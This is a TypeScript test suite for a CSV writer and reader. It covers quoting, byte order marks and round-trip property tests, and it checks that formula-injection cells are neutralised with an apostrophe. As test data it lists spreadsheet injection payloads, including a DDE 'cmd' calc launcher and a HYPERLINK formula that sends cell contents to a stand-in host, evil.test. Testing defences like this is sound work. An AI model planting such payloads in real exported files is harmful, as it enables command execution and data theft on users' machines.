import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { csvFile } from "../../functions/csv/file.ts";
import { readCsv } from "../../functions/csv/read.ts";
import { writeCsv } from "../../functions/csv/write.ts";
import { seed } from "../support/catalogue.ts";

describe("A CSV file", () => {
  it("has commas, CRLF after every record and quotes where they are needed", () => {
    const text = writeCsv(
      ["name", "price"],
      [
        ['the "best"', 4.99],
        ["one, two", null],
        ["two\nlines", "-12.5"],
        [" spaced", "a;b"],
      ],
    );
    assert.equal(
      text,
      'name,price\r\n"the ""best""",4.99\r\n"one, two",\r\n"two\nlines",-12.5\r\n" spaced","a;b"\r\n',
    );
  });

  it("begins with a byte order mark only where one is asked for", () => {
    assert.equal(writeCsv(["é"], []), "é\r\n");
    assert.equal(writeCsv(["é"], [], { byteOrderMark: true }), "\ufeffé\r\n");
  });

  it("cannot have rows of another length than its header", () => {
    assert.throws(() => writeCsv(["a", "b"], [["1"]]), RangeError);
  });

  it("is answered with a name and its number of rows", () => {
    assert.deepEqual(csvFile("prices.csv", ["a"], [["1"], ["2"]]), {
      csv: "\ufeffa\r\n1\r\n2\r\n",
      fileName: "prices.csv",
      rowCount: 2,
    });
  });
});

describe("A cell that a spreadsheet would run", () => {
  const rows: readonly (readonly [cell: string, written: string])[] = [
    ["=1+1", "'=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("https://evil.test?x="&A1)', '"\'=HYPERLINK(""https://evil.test?x=""&A1)"'],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["--1", "'--1"],
    ["-A1", "'-A1"],
    ["-", "'-"],
    ["-1e", "'-1e"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "\"'\t'=1\""],
    ["\r=1", "\"'\r'=1\""],
    ["\n=1", "\"'\n'=1\""],
    ["\ttext", '"\'\ttext"'],
    [" =1", "' =1"],
    ["\u00a0=1", "'\u00a0=1"],
    ["＝1+1", "'＝1+1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
    // Opened with semicolons, the second half would be a cell of its own.
    ["a;=1+1;b", '"a;\'=1+1;b"'],
    ["a\n@x", '"a\n\'@x"'],
  ];
  for (const [cell, written] of rows) {
    it(`gets an apostrophe: ${JSON.stringify(cell)}`, () => {
      assert.equal(writeCsv(["h", "i"], [["x", cell]]), `h,i\r\nx,${written}\r\n`);
      assert.equal(writeCsv([cell], []), `${written}\r\n`);
    });
  }

  it("is none that is a plain number, or has such a character further on", () => {
    for (const cell of ["-12.5", "+5", "-0", "4.99", "-1.5e-7", "a=1", "a-b", "x@example.com", "1-2", ""]) {
      assert.equal(writeCsv(["h", "i"], [["x", cell]]), `h,i\r\nx,${cell}\r\n`);
    }
    assert.equal(writeCsv(["h"], [[-12.5]]), "h\r\n-12.5\r\n");
  });

  it("is left in no file, whatever delimiter it is opened with", () => {
    const text = fc
      .array(fc.constantFrom("=", "+", "-", "@", "＝", "\t", "\r", "\n", " ", ";", '"', "1", "a"), {
        maxLength: 6,
      })
      .map((characters) => characters.join(""));
    fc.assert(
      fc.property(text, (cell) => {
        const file = writeCsv(["h"], [[cell]]).slice(3);
        const number = /^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i;
        // A reader that takes every quote for text, and one that knows them.
        for (const part of [...file.split(/[;\t\r\n]/), file]) {
          const seen = part.replace(/^"|"$/g, "").trimStart();
          assert.ok(!/^[=@＝]/.test(seen) || number.test(seen), `${JSON.stringify(file)} holds ${seen}`);
        }
      }),
      { seed, numRuns: 5_000 },
    );
  });
});

describe("What was written", () => {
  const cell = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 20 }),
    fc
      .array(fc.constantFrom('"', ",", ";", "\t", "\r", "\n", "\r\n", " ", "a", "\ufeff", "é", "'"), {
        maxLength: 8,
      })
      .map((all) => all.join("")),
  );
  // An apostrophe stays in the file; everything else must come back as it was.
  const harmless = cell.filter((text) => !/^[\t\r\n]|[=+\-@＝＋－＠]/.test(text));
  const table = fc.integer({ min: 1, max: 4 }).chain((width) => {
    const row = (one: fc.Arbitrary<string>) => fc.array(one, { minLength: width, maxLength: width });
    return fc.record({
      columns: row(harmless.filter((text) => text !== "")),
      rows: fc.array(
        row(harmless).filter((cells) => cells.some((text) => text !== "")),
        { maxLength: 6 },
      ),
      byteOrderMark: fc.boolean(),
    });
  });

  it("reads back the same, with the lines on which rows begin", async (t) => {
    t.diagnostic(`seed ${seed}`);
    await fc.assert(
      fc.asyncProperty(table, async ({ columns, rows, byteOrderMark }) => {
        const text = writeCsv(columns, rows, { byteOrderMark });
        const read = await readCsv(text, { maxRows: 10 });
        assert.deepEqual(read.problems, []);
        assert.deepEqual(read.columns, columns);
        assert.deepEqual(
          read.rows.map(({ cells }) => cells),
          rows,
        );
        const before = (count: number) =>
          writeCsv(columns, rows.slice(0, count)).match(/\r\n|\r|\n/g)?.length ?? 0;
        assert.deepEqual(
          read.rows.map(({ line }) => line),
          rows.map((_row, index) => before(index) + 1),
        );
      }),
      { seed, numRuns: 1_000 },
    );
  });
});
